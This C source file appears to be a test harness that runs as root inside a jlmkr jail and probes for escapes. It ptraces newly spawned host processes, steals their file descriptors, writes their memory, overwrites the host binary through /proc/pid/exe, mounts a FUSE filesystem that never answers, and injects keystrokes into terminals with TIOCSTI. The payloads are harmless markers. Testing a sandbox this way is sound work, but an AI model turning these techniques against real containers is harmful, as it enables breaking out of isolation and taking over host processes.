/* Root in a jail, trying to get out by way of what jlmkr does in it
 *
 *	attack watch SECONDS REPORT	trace, read and write every process that appears
 *	attack fuse PATH		a file system over PATH that never answers
 *	attack push			type into every terminal that is open, or its own
 *	attack rights			what this process may do, a line of text
 *
 * `watch` writes a line "WON ..." for each way out that it found, and "tried N, saw N" at the
 * end: a report without tries proves nothing. Static, for it is copied into jails.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <linux/fuse.h>

static FILE *report;
static long tried, seen, held;
static int own_users;

static void won(pid_t pid, const char *how, const char *what)
{
	fprintf(report, "WON %s: process %d, %s\n", how, (int)pid, what);
	fflush(report);
}

static int read_text(const char *path, char *text, size_t room)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, room - 1);

	if (fd >= 0) close(fd);
	text[n > 0 ? n : 0] = 0;
	return n > 0 ? 0 : -1;
}

static const char *field(const char *status, const char *name)
{
	static char value[128];
	const char *at = strstr(status, name);

	if (!at) return "";
	at += strlen(name);
	at += strspn(at, ":\t ");
	snprintf(value, sizeof value, "%.*s", (int)strcspn(at, "\n"), at);
	return value;
}

static unsigned long long caps(const char *status, const char *name)
{
	return strtoull(field(status, name), NULL, 16);
}

/* -- what can be seen without any right: more than the jail's own first process has -- */

static char first[8192];

static void judge_status(pid_t pid)
{
	static const char *const sets[] = { "CapEff", "CapPrm", "CapBnd", "CapInh" };
	char path[64], status[8192];
	int weaker;

	snprintf(path, sizeof path, "/proc/%d/status", (int)pid);
	if (read_text(path, status, sizeof status) < 0) return;
	seen++;
	for (size_t i = 0; i < sizeof sets / sizeof *sets; i++)
		if (caps(status, sets[i]) & ~caps(first, "CapBnd")) won(pid, "status", "has capabilities that the jail has not");
	weaker = atoi(field(status, "Seccomp")) < atoi(field(first, "Seccomp"));
	if (weaker) won(pid, "status", "has no system call filter");
	if (atoi(field(status, "NoNewPrivs")) < atoi(field(first, "NoNewPrivs"))) won(pid, "status", "may gain privileges");
	if (own_users && atoi(field(status, "Uid")) == 65534) won(pid, "status", "is a user of the host");
}

/* -- what takes the right to trace -- */

/* Where the link leads: to the program of jlmkr itself, or to its copy in memory? */
static int leads_to_ours(const char *link, char *exe, size_t room)
{
	ssize_t n = readlink(link, exe, room - 1);

	exe[n > 0 ? n : 0] = 0;
	return strstr(exe, "jlmkr") != NULL;
}

static int is_ours(pid_t pid, char *exe, size_t room)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
	return leads_to_ours(path, exe, room);
}

/* To be written now, or as soon as it does not run any more. */
static void judge_program(pid_t pid)
{
	char path[64], link[64], exe[512];
	int place, fd = -1;

	snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
	if ((place = open(path, O_PATH | O_CLOEXEC)) < 0) return;
	snprintf(link, sizeof link, "/proc/self/fd/%d", place);
	/* By now it may have become the command, whose program is the jail's own. */
	if (!leads_to_ours(link, exe, sizeof exe)) {
		close(place);
		return;
	}
	held++;
	if (!strstr(exe, "memfd:")) won(pid, "exe", "runs the host's program");
	for (int i = 0; i < 200 && fd < 0; i++) {
		fd = open(link, O_WRONLY | O_CLOEXEC);
		if (fd < 0) usleep(1000);
	}
	if (fd >= 0 && pwrite(fd, "\177", 1, 0) == 1) won(pid, "exe", "its program can be written");
	if (fd >= 0) close(fd);
	close(place);
}

static int is_harmless(const char *target)
{
	return !strncmp(target, "pipe:", 5) || !strcmp(target, "/dev/null") || strstr(target, "/dev/null") ||
	       !*target;
}

/* Beyond the command's own three, it has a pipe to speak through and no more. */
static void judge_fds(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	char path[64], target[512];

	for (int n = 3; n < 64; n++) {
		ssize_t len;
		int fd;

		snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)pid, n);
		len = readlink(path, target, sizeof target - 1);
		target[len > 0 ? len : 0] = 0;
		if (!is_harmless(target)) won(pid, "fd", target);
		fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
		if (fd < 0) continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		len = readlink(path, target, sizeof target - 1);
		target[len > 0 ? len : 0] = 0;
		if (!is_harmless(target)) won(pid, "pidfd_getfd", target);
		close(fd);
	}
	if (pidfd >= 0) close(pidfd);
}

static void judge_memory(pid_t pid)
{
	char path[64], byte;
	struct iovec here = { &byte, 1 }, there = { (void *)0x400000, 1 };
	int fd;

	if (!own_users) return;
	snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
	if ((fd = open(path, O_RDWR | O_CLOEXEC)) >= 0) {
		won(pid, "mem", "its memory can be written");
		close(fd);
	}
	errno = 0;
	if (syscall(SYS_process_vm_writev, pid, &here, 1ul, &there, 1ul, 0ul) == 1 || errno == EFAULT)
		won(pid, "process_vm_writev", "its memory can be written");
	snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) >= 0) {
		won(pid, "environ", "its environment can be read");
		close(fd);
	}
}

static void judge(pid_t pid, const char *how)
{
	char exe[512];

	judge_status(pid);
	if (!is_ours(pid, exe, sizeof exe)) return;
	if (own_users) won(pid, how, exe);
	judge_fds(pid);
	judge_memory(pid);
	judge_program(pid);
}

static void seize(pid_t pid)
{
	int status;

	tried++;
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) return;
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) judge(pid, "ptrace(SEIZE)");
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void attach(pid_t pid)
{
	int status;

	tried++;
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) return;
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) judge(pid, "ptrace(ATTACH)");
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	/* It may have stopped for something else, an exec, and have the SIGSTOP still before it. */
	kill(pid, SIGCONT);
}

static void look(pid_t pid)
{
	tried++;
	if (kill(pid, 0) == 0) judge(pid, "/proc");
}

static pid_t last_pid(int fd)
{
	char text[32];
	ssize_t n = pread(fd, text, sizeof text - 1, 0);

	text[n > 0 ? n : 0] = 0;
	return atoi(text);
}

static void watch_by(void (*try)(pid_t), time_t until)
{
	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
	pid_t done = last_pid(fd);

	while (time(NULL) < until) {
		pid_t last;

		for (int i = 0; i < 200; i++) {
			last = last_pid(fd);
			for (pid_t pid = done > last ? last : done; pid <= last + 1; pid++)
				if (pid != getpid() && pid > 1) try(pid);
			done = last;
		}
	}
}

static int watch(int seconds, const char *path)
{
	static void (*const ways[])(pid_t) = { seize, attach, look };
	time_t until = time(NULL) + seconds;
	char map[256];

	signal(SIGHUP, SIG_IGN);
	read_text("/proc/1/status", first, sizeof first);
	read_text("/proc/self/uid_map", map, sizeof map);
	own_users = strtoul(map + strspn(map, " 0"), NULL, 10) != 0 && !strstr(map, "4294967295");
	for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
		char name[512];

		if (fork()) continue;
		snprintf(name, sizeof name, "%s.%zu", path, i);
		report = fopen(name, "w");
		watch_by(ways[i], until);
		fprintf(report, "tried %ld, saw %ld, held %ld\n", tried, seen, held);
		fclose(report);
		_exit(0);
	}
	while (wait(NULL) > 0)
		;
	return 0;
}

/* -- a file system that never answers -- */

static int fuse(const char *path)
{
	struct { struct fuse_in_header head; char rest[256 * 1024]; } in;
	struct { struct fuse_out_header head; struct fuse_init_out init; } out = { .head.len = sizeof out };
	struct stat st;
	char options[128];
	int fd = open("/dev/fuse", O_RDWR);

	if (fd < 0 || stat(path, &st) < 0) return perror("/dev/fuse"), 1;
	snprintf(options, sizeof options, "fd=%d,rootmode=%o,user_id=0,group_id=0,allow_other", fd,
	         (unsigned)st.st_mode);
	if (mount("never", path, "fuse", 0, options) < 0) return perror("mount"), 1;
	if (read(fd, &in, sizeof in) < (ssize_t)sizeof in.head) return perror("read"), 1;
	out.head.unique = in.head.unique;
	out.init = (struct fuse_init_out){ .major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION,
		.max_write = 4096 };
	if (write(fd, &out, sizeof out) < 0) return perror("write"), 1;
	for (;;)
		if (read(fd, &in, sizeof in) < 0 && errno != EINTR && errno != EAGAIN) return 0;
}

static int rights(void)
{
	static const char *const names[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs",
		"Seccomp", "Seccomp_filters" };
	char text[8192];

	read_text("/proc/self/status", text, sizeof text);
	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
		printf("%s=%s ", names[i], field(text, names[i]));
	printf("\n");
	return 0;
}

/* TIOCSTI, and TIOCLINUX' ways to select and paste what stands on the console. */
static void push_into(int fd)
{
	static const char text[] = "pushed\n";
	struct { char verb; unsigned short xs, ys, xe, ye, mode; } __attribute__((packed)) select = {
		2, 1, 1, 10, 1, 2,
	};
	char paste = 3;

	for (const char *c = text; *c; c++)
		ioctl(fd, TIOCSTI, c);
	ioctl(fd, TIOCLINUX, &select);
	ioctl(fd, TIOCLINUX, &paste);
}

static int push(void)
{
	int own = open("/dev/tty", O_RDWR);

	for (int fd = 0; fd < 64; fd++)
		push_into(fd);
	printf("pushes, %s a terminal of its own\n", own >= 0 ? "with" : "without");
	return 0;
}

int main(int argc, char *argv[])
{
	if (argc == 4 && !strcmp(argv[1], "watch")) return watch(atoi(argv[2]), argv[3]);
	if (argc == 3 && !strcmp(argv[1], "fuse")) return fuse(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "push")) return push();
	if (argc == 2 && !strcmp(argv[1], "rights")) return rights();
	return 2;
}
